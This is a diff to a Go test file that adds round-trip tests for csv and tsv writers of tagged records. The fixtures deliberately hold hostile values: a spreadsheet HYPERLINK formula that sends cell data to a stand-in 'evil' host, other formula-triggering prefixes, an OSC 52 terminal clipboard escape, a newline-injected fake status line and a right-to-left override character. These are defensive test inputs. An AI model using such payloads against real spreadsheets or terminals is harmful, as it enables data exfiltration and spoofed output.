@@ -216,3 +216,61 @@ func TestRoundTripLabels(t *testing.T) {
 		t.Errorf("got %q, want %q", got, want)
 	}
 }
+
+// hostileRecords have names and tags a spreadsheet would run as
+// formulas, and tags that are terminal commands.
+var hostileRecords = []record.Record{
+	seriesRecord(`=HYPERLINK("http://evil/?"&A1,"x");host=web1;t=+1`, -1, 1764045000),
+	seriesRecord(`+x;host=@web;t=-x`, 2, 1764045000),
+	seriesRecord(`@x;host='q;t==1`, 3, 1764045000),
+	seriesRecord(`'x;host=-;t=\011x`, 4, 1764045000),
+	seriesRecord(`-x;host=web1;t=\015x`, 5, 1764045000),
+	seriesRecord(`x;host=web1;t=\033]52\073c\073aGk=\007`, 6, 1764045000),
+	seriesRecord(`x;host=web1;t=x\012OK\040-\040all\040fine`, 7, 1764045000),
+	seriesRecord("x;host=web1;t=abc\u202etxt", 8, 1764045000),
+	seriesRecord(`x;-k=1;host=web1`, 9, 1764045000),
+}
+
+// TestRoundTripDelimited: what csv and tsv write, neutralised cells and
+// folded tags too, their readers read back as it was.
+func TestRoundTripDelimited(t *testing.T) {
+	recs := slices.Concat(roundTripRecords, hostileRecords)
+	// The readers of other formats refuse a tag value that starts with
+	// "~" (checkTagValue), which a record can escape.
+	recs = slices.DeleteFunc(recs, func(r record.Record) bool {
+		return slices.ContainsFunc(r.Tags, func(t record.Tag) bool { return strings.HasPrefix(t.Value, "~") })
+	})
+	keys := map[string]bool{}
+	for _, r := range recs {
+		for _, tg := range r.Tags {
+			keys[tg.Key] = true
+		}
+	}
+	all := slices.Sorted(func(yield func(string) bool) {
+		for k := range keys {
+			if !yield(k) {
+				return
+			}
+		}
+	})
+	for _, name := range []string{"csv", "tsv"} {
+		for _, o := range []format.Options{
+			{Columns: all},
+			{Columns: []string{"host"}, FoldTags: true},
+			{FoldTags: true},
+		} {
+			text, err := writeRecords(t, name, recs, o)
+			if err != nil {
+				t.Fatalf("%s %+v: %v", name, o, err)
+			}
+			got, _ := decodeAllOf(t, name, text, Options{})
+			var want []string
+			for _, r := range recs {
+				want = append(want, r.String())
+			}
+			if !slices.Equal(got, want) {
+				t.Errorf("%s, columns %q, fold %v: wrote\n%s\nread\n%s\nwant\n%s", name, o.Columns, o.FoldTags, text, strings.Join(got, "\n"), strings.Join(want, "\n"))
+			}
+		}
+	}
+}
